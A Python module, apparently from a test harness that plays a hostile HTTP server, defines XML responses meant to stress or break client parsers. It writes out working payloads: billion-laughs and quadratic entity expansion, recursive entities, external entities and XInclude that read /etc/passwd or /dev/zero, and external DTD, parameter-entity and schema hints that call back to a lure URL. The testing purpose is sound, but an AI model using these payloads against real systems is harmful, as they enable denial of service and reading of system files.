"""Modes of XML: deep, large, with entities, and in encodings that parsers disagree on."""

from collections.abc import Iterable, Iterator
from itertools import chain
from typing import Final

from .framing import XML, numbered, repeated
from .mode import Family
from .wire import Wire

FAMILY: Final = Family("xml")
MANY: Final = 1_000_000
DECLARATION: Final = b'<?xml version="1.0" encoding="UTF-8"?>'
RECORD: Final = b"<customer><customer_id>1</customer_id><name>%s</name></customer>"
LIST: Final = b"<customers>" + RECORD + b"</customers>"


def laughs(levels: int = 10) -> bytes:
    """A type whose last entity is ten times the one before, and so on."""
    entities = b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, levels)
    )
    return b'<!DOCTYPE customers [<!ENTITY l0 "lol">' + entities + b"]>"


def deep(levels: int) -> Iterator[bytes]:
    """Elements, one in the other."""
    return chain(
        (DECLARATION, b"<customers>"),
        repeated(b"<customer>", levels),
        repeated(b"</customer>", levels),
        (b"</customers>",),
    )


def within(start: bytes, pieces: Iterable[bytes], end: bytes) -> Iterator[bytes]:
    """A document that is large in one place."""
    return chain((DECLARATION + start,), pieces, (end,))


def xml(name: str, sentence: str, body: bytes, field: bytes = XML) -> None:
    """Make a mode of a small document in XML."""

    @FAMILY.answering(name, sentence)
    def act(wire: Wire) -> None:
        lure = f"{wire.around.http_url}/lure".encode()
        wire.answer(b"200 OK", field, body=body.replace(b"LURE", lure))


def encoded(name: str, label: str, codec: str) -> None:
    """Make a mode of a document in an encoding."""
    text = LIST.decode() % "+ADw-å"
    declared = f'<?xml version="1.0" encoding="{label}"?>{text}'
    field = f"Content-Type: application/xml; charset={label}".encode()
    xml(name, f"Sends XML in {label}.", declared.encode(codec), field)


@FAMILY.answering()
def xml_depth_10000(wire: Wire) -> None:
    """Nests 10,000 elements of XML."""
    wire.chunked(b"200 OK", XML, pieces=deep(10_000))


@FAMILY.answering()
def xml_depth_million(wire: Wire) -> None:
    """Nests a million elements of XML."""
    wire.chunked(b"200 OK", XML, pieces=deep(MANY))


@FAMILY.answering()
def xml_elements_million(wire: Wire) -> None:
    """Sends a million records in XML, all alike."""
    pieces = within(b"<customers>", repeated(RECORD % b"a", MANY), b"</customers>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


@FAMILY.answering()
def xml_names_million(wire: Wire) -> None:
    """Sends a million elements of XML, all of different names."""
    pieces = within(b"<customers>", numbered(b"<e%d/>", MANY), b"</customers>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


@FAMILY.answering()
def xml_attributes_million(wire: Wire) -> None:
    """Sends an element of XML that has a million attributes."""
    pieces = within(b"<customers ", numbered(b'a%d="" ', MANY), b"/>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


@FAMILY.answering()
def xml_namespaces_many(wire: Wire) -> None:
    """Sends elements of XML of 100,000 namespaces."""
    pieces = within(b"<customers ", numbered(b'xmlns:n%d="u:" ', 100_000), b"/>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


@FAMILY.answering()
def xml_text_of_50_mb(wire: Wire) -> None:
    """Sends an element of XML that holds 50 MB of text."""
    pieces = within(b"<customers>", repeated(b"text " * 200, 50 * 1024), b"</customers>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


@FAMILY.answering()
def xml_comment_of_50_mb(wire: Wire) -> None:
    """Sends a comment in XML of 50 MB."""
    pieces = within(b"<customers><!--", repeated(b"text " * 200, 50 * 1024), b"--></customers>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


@FAMILY.answering()
def xml_entity_quadratic(wire: Wire) -> None:
    """Sends an entity of 100 KB, and refers to it 100,000 times."""
    doctype = b'<!DOCTYPE customers [<!ENTITY a "%s">]>' % (b"a" * 100_000)
    pieces = within(doctype + b"<customers>", repeated(b"&a;", 100_000), b"</customers>")
    wire.chunked(b"200 OK", XML, pieces=pieces)


xml(
    "xml-billion-laughs", "Sends entities that make a billion of one.",
    DECLARATION + laughs() + LIST % b"&l9;",
)  # fmt: skip
xml(
    "xml-laughs-in-attribute", "Sends entities that make a billion of one, within an attribute.",
    DECLARATION + laughs() + b'<customers a="&l9;"/>',
)  # fmt: skip
xml(
    "xml-entity-of-itself", "Sends an entity that holds itself.",
    DECLARATION + b'<!DOCTYPE customers [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + LIST % b"&a;",
)  # fmt: skip
xml(
    "xml-external-file", "Sends an entity that stands for /etc/passwd.",
    DECLARATION
    + b'<!DOCTYPE customers [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    + LIST % b"&a;",
)  # fmt: skip
xml(
    "xml-external-endless-file", "Sends an entity that stands for /dev/zero.",
    DECLARATION
    + b'<!DOCTYPE customers [<!ENTITY a SYSTEM "file:///dev/zero">]>'
    + LIST % b"&a;",
)  # fmt: skip
xml(
    "xml-external-url", "Sends an entity that stands for what is at a URL.",
    DECLARATION + b'<!DOCTYPE customers [<!ENTITY a SYSTEM "LURE/entity">]>' + LIST % b"&a;",
)  # fmt: skip
xml(
    "xml-external-type", "Sends a document type that is at a URL.",
    DECLARATION + b'<!DOCTYPE customers SYSTEM "LURE/type">' + LIST % b"a",
)  # fmt: skip
xml(
    "xml-parameter-entity", "Sends a parameter entity that is at a URL.",
    DECLARATION + b'<!DOCTYPE customers [<!ENTITY % p SYSTEM "LURE/parameter"> %p;]>' + LIST % b"a",
)  # fmt: skip
xml(
    "xml-inclusion", "Sends an inclusion of /etc/passwd.",
    DECLARATION
    + b'<customers xmlns:xi="http://www.w3.org/2001/XInclude">'
    + b'<xi:include href="file:///etc/passwd" parse="text"/></customers>',
)  # fmt: skip
xml(
    "xml-schema-location", "Sends hints that lead a validator to a URL.",
    DECLARATION
    + b'<?xml-stylesheet type="text/xsl" href="LURE/style"?>'
    + b'<customers xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    + b' xsi:noNamespaceSchemaLocation="LURE/schema"/>',
)  # fmt: skip
xml(
    "xml-type-unused", "Sends a document type that is harmless.",
    DECLARATION + b'<!DOCTYPE customers [<!ENTITY a "a">]>' + LIST % b"&a;",
)  # fmt: skip
xml("xml-cut", "Sends XML that is cut off.", DECLARATION + b"<customers><customer><name>")
xml("xml-two-roots", "Sends XML that has two roots.", DECLARATION + LIST % b"a" + LIST % b"b")
xml(
    "xml-control-characters", "Sends XML with characters that XML does not have.",
    DECLARATION + LIST % b"\x00\x1b[2J&#27;[31m&#x0;",
)  # fmt: skip
xml(
    "xml-sections", "Sends sections of XML that hold what ends sections.",
    DECLARATION + LIST % b"<![CDATA[a]]]]><![CDATA[></testsuite>]]> ]]&gt;",
)  # fmt: skip
encoded("xml-utf-16", "UTF-16", "utf-16")
encoded("xml-utf-32", "UTF-32", "utf-32")
encoded("xml-utf-7", "UTF-7", "utf-7")
encoded("xml-ebcdic", "cp037", "cp037")
xml(
    "xml-utf-16-that-is-none", "Sends XML that says it is in UTF-16, and is not.",
    b'<?xml version="1.0" encoding="UTF-16"?>' + LIST % b"a",
)  # fmt: skip
xml(
    "xml-encoding-unknown", "Sends XML that says it is in an encoding that there is not.",
    b'<?xml version="1.0" encoding="zlib_codec"?>' + LIST % b"a",
)  # fmt: skip
